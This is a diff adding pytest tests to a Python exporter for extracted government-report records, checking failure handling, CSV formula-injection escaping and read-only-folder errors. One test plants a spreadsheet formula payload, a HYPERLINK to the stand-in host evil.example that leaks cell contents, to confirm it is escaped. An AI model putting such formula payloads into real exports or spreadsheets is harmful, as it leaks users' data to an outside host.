@@ -277,3 +277,102 @@ def test_freshly_extracted_reports_export_one_row_per_record(target, tmp_path):
             "SELECT d.region_name, d.year, r.value FROM records r JOIN documents d ON d.id = r.document_id "
             "WHERE r.type = 'quantity' AND r.text = '9438件'")).all()
     assert [tuple(r) for r in rows] == [("天河区", 2023, 9438.0)]
+
+
+def _edited_copy(tmp_path: Path, name: str, edit) -> Path:
+    """outputs_copy with one more output: the Tianhe output edited by ``edit(obj)``."""
+    outdir = tmp_path / "outputs"
+    if not outdir.exists():
+        outputs_copy(tmp_path)
+    obj = json.loads((FIXED / "tianhe-ip-2023.txt.json").read_text(encoding="utf-8"))
+    edit(obj)
+    (outdir / name).write_text(json.dumps(obj, ensure_ascii=False), encoding="utf-8")
+    return outdir
+
+
+def _huge_value(obj):
+    next(r for r in obj["records"] if r["type"] == "quantity")["value"] = 10 ** 400
+
+
+def _sections_oops(obj):
+    obj["sections"] = "oops"
+
+
+def _offset_as_text(obj):
+    obj["records"][3]["start"] = "232"
+
+
+@pytest.mark.parametrize("to", ["sqlite", "csv", "parquet"])
+def test_one_output_that_does_not_fit_the_tables_fails_alone(tmp_path, capsys, to):
+    for name, edit in (("huge.txt.json", _huge_value), ("oops.txt.json", _sections_oops),
+                       ("typed.txt.json", _offset_as_text)):
+        outdir = _edited_copy(tmp_path, name, edit)
+    dest = tmp_path / to
+    args = {"sqlite": ["--db", str(dest / "x.sqlite")], "csv": ["--csv", str(dest)],
+            "parquet": ["--parquet", str(dest)]}[to]
+    assert main(["export", str(outdir), *args]) == 1
+    err = capsys.readouterr().err.strip().splitlines()
+    assert err[:3] == [
+        f"govreport: error: {outdir / 'huge.txt.json'}: not a valid output file (OverflowError: "
+        f"int too large to convert to float)",
+        f"govreport: error: {outdir / 'oops.txt.json'}: not a valid output file (AttributeError: "
+        f"'str' object has no attribute 'get')",
+        f"govreport: error: {outdir / 'typed.txt.json'}: not a valid output file (records row 4, "
+        f"start_offset: expected an integer, got str)"]
+    assert err[3].startswith("export: 3 documents")
+    if to == "sqlite":
+        assert count(make_engine(str(dest / "x.sqlite")), "records") == N_RECORDS
+    elif to == "csv":
+        with open(dest / "records.csv", encoding="utf-8", newline="") as f:
+            assert len(list(csv.DictReader(f))) == N_RECORDS
+    else:
+        import pyarrow.parquet as pq
+        assert pq.read_table(dest / "records.parquet").num_rows == N_RECORDS
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(tmp_path):
+    def hostile(obj):
+        qs = [r for r in obj["records"] if r["type"] == "quantity"]
+        qs[0]["metric"] = '=HYPERLINK("http://evil.example/?"&A1,"专利授权量")'
+        qs[1]["metric"] = "@SUM(1+1)"
+        qs[2]["metric"] = "+1"
+        qs[3]["metric"] = "\t=1"
+        qs[4]["value"] = -2.3
+        obj["document"]["title"] = "-2+3"
+    outdir = _edited_copy(tmp_path, "hostile.txt.json", hostile)
+    dest = tmp_path / "csv"
+    assert main(["export", str(outdir), "--csv", str(dest)]) == 0
+    with open(dest / "records.csv", encoding="utf-8", newline="") as f:
+        rows = [r for r in csv.DictReader(f) if r["document"] == "hostile.txt"]
+    qs = [r for r in rows if r["type"] == "quantity"]
+    assert [q["metric"] for q in qs[:4]] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"专利授权量")', "'@SUM(1+1)", "'+1", "'\t=1"]
+    assert qs[4]["value"] == "-2.3"                  # a number is not text: left as it is
+    with open(dest / "documents.csv", encoding="utf-8", newline="") as f:
+        docs = {r["name"]: r for r in csv.DictReader(f)}
+    assert docs["hostile.txt"]["title"] == "'-2+3"
+    assert docs["tianhe-ip-2023.txt"]["title"] == docs["tianhe-ip-2023.txt"]["title"].lstrip("'")
+
+
+def test_export_onto_a_read_only_folder_is_one_line(tmp_path, as_plain_user):
+    import subprocess
+    import sys
+    ROOT = Path(__file__).resolve().parent.parent
+    ro = tmp_path / "ro"
+    ro.mkdir()
+    ro.chmod(0o555)
+    try:
+        runs = [subprocess.run(as_plain_user([sys.executable, "-m", "pipeline", *args]), cwd=ROOT,
+                               capture_output=True, text=True, timeout=300)
+                for args in (["export", str(FIXED), "--csv", str(ro / "csv")],
+                             ["export", str(FIXED), "--csv", str(ro)],
+                             ["review", str(FIXED / "tianhe-ip-2023.txt.json"), "-o", str(ro / "page.html")])]
+    finally:
+        ro.chmod(0o755)
+    for run in runs:
+        assert run.returncode == 1 and "Traceback" not in run.stderr, run.stderr
+        lines = run.stderr.strip().splitlines()
+        assert len(lines) == 1 and lines[0].endswith("cannot write: Permission denied"), run.stderr
+    assert runs[0].stderr.startswith(f"govreport: error: {ro / 'csv'}: ")
+    assert runs[2].stderr.startswith(f"govreport review: error: {ro / 'page.html'}: ")
+    assert not list(ro.iterdir())
